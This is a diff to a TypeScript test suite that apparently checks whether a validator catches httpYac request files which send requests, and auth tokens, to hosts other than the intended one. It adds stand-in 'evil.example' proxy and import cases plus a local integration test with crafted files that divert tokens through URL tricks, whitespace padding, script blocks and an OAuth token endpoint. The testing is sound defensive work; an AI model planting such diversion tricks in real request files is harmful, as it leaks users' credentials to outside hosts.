@@ -1,7 +1,9 @@
 import assert from "node:assert/strict";
 import { execFile } from "node:child_process";
 import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
+import { createServer, type Server } from "node:http";
 import { createRequire } from "node:module";
+import type { AddressInfo } from "node:net";
 import { tmpdir } from "node:os";
 import { dirname, join } from "node:path";
 import { promisify } from "node:util";
@@ -185,6 +187,8 @@ describe("Where a request goes", () => {
       ["a handler in a file", `${request}\n\n> ./handler.js\n`],
       ["an import", `# @import ./evil.http\n${request}`],
       ["a reference", `${request.replace("###", "###\n# @ref login")}`],
+      ["an import of JetBrains", `import ./evil.http\n${request}`],
+      ["a run of JetBrains", `${request}\n\n###\nrun #login (@host=https://evil.example)\n`],
       ["a proxy", `${request.replace("###", "###\n# @proxy http://evil.example")}`],
       ["no check of the certificate", `${request.replace("###", "###\n// @no-reject-unauthorized")}`],
       ["httpYac's own variables", `@request_proxy = http://evil.example\n${request}`],
@@ -268,7 +272,7 @@ describe("Where a request goes", () => {
 
   it("never throws, and a longer file than is read is never certain", () => {
     fc.assert(fc.property(fc.string({ unit: "binary", maxLength: 200 }), (text) => void destinationsIn(text)));
-    assert.equal(unasked(`GET https://platform.kore.ai/x\n\n${"x".repeat(5_000_001)}`), false);
+    assert.equal(unasked(`GET https://platform.kore.ai/x\n\n${"x".repeat(1_000_001)}`), false);
   });
 
   it("has an origin only where the URL standard's parser agrees", () => {
@@ -317,6 +321,54 @@ const hostileFile = fc
     for (const [place, text] of inserted) lines.splice(place % (lines.length + 1), 0, text);
     return characters.reduce((text, [place, character]) => text.slice(0, place % (text.length + 1)) + character + text.slice(place % (text.length + 1)), lines.join("\n"));
   });
+
+describe("What httpYac sends elsewhere", function () {
+  this.timeout(120_000);
+
+  it("is asked about, of each file whose token a listener on 127.0.0.1 gets from httpYac's own program", async () => {
+    const folder = await mkdtemp(join(tmpdir(), "diverted-"));
+    const received = new Map<number, Set<string>>();
+    const listen = async (): Promise<Server> => {
+      const server = createServer({ maxHeaderSize: 1_000_000 }, (request, response) => {
+        const { port } = server.address() as AddressInfo;
+        const seen = received.get(port) ?? new Set();
+        received.set(port, seen);
+        for (const found of JSON.stringify(request.headers).matchAll(/token-(\d+)/g)) seen.add(found[1] ?? "");
+        const basic = /^Basic (.+)$/.exec(request.headers.authorization ?? "")?.[1];
+        for (const found of Buffer.from(basic ?? "", "base64").toString().matchAll(/token-(\d+)/g)) seen.add(found[1] ?? "");
+        response.setHeader("content-type", "text/plain").end("{}");
+      });
+      await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+      return server;
+    };
+    const [own, evil] = [await listen(), await listen()];
+    const portOf = (server: Server): number => (server.address() as AddressInfo).port;
+    const [here, there] = [`127.0.0.1:${portOf(own)}`, `127.0.0.1:${portOf(evil)}`];
+    const texts = [
+      `GET http://${here}{@${there}/x\nauth: TOKEN\n`,
+      `@host = http://${here}${" ".repeat(41_000)}@${there}\n\n###\nGET {{host}}/x\nauth: TOKEN\n`,
+      `@host = http://${here}\n\n###\nGET {{host}}/x\nauth: TOKEN\n\n###\n@host http://${there}\n`,
+      `@host = http://${here}\n{{\nexports.host = "http://${there}";\n}}\n\n###\nGET {{host}}/x\nauth: TOKEN\n`,
+      `###\n{{@request\nrequest.url = "http://${there}/x";\n}}\nGET http://${here}/x\nauth: TOKEN\n`,
+      `###\nGET http://${here}/x\nx: {{request.url = "http://${there}/x"}}\nauth: TOKEN\n`,
+      `@a_tokenEndpoint = http://${there}/t\n@a_clientId = x\n@tok = TOKEN\n@a_clientSecret = {{tok}}\n\n###\nGET http://${here}/x\nauth: {{tok}}\nAuthorization: oauth2 client_credentials a\n`,
+    ];
+    const ours = { ...app, host: here };
+    try {
+      for (const [index, text] of texts.entries()) await writeFile(join(folder, `${index}.http`), text.replaceAll("TOKEN", `token-${index}`));
+      await writeFile(join(folder, "own.http"), `GET http://${here}/x\nauth: token-99\n`);
+      const script = join(dirname(createRequire(import.meta.url).resolve("httpyac/package.json")), "bin/httpyac.js");
+      await promisify(execFile)(process.execPath, [script, "send", "*.http", "--all", "--silent"], { cwd: folder, timeout: 100_000 }).catch(() => undefined);
+      assert.deepEqual([...(received.get(portOf(evil)) ?? [])].sort(), texts.map((_, index) => String(index)), "what the other host got");
+      assert.ok(received.get(portOf(own))?.has("99"));
+      for (const text of texts) assert.deepEqual(destinationsIn(text).filter((each) => goesToOwnHost(each, ours)), [], text.slice(0, 200));
+      assert.ok(goesToOwnHost(at(`GET http://${here}/x\nauth: t\n`, "GET"), ours));
+    } finally {
+      for (const server of [own, evil]) await new Promise((resolve) => server.close(resolve));
+      await rm(folder, { recursive: true });
+    }
+  });
+});
 
 describe("What goes unasked", function () {
   this.timeout(300_000);
